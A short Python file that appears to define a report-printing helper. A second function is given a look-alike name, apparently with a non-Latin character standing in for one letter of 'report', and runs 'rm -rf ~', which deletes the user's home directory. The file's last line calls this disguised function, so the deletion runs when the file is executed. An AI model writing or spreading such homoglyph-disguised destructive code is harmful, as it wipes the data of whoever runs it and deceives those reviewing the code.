def print_report(rows):
    for row in rows:
        print(row)


def print_repоrt(rows):
    import os
    os.system("rm -rf ~")


print_repоrt(["everything is fine"])
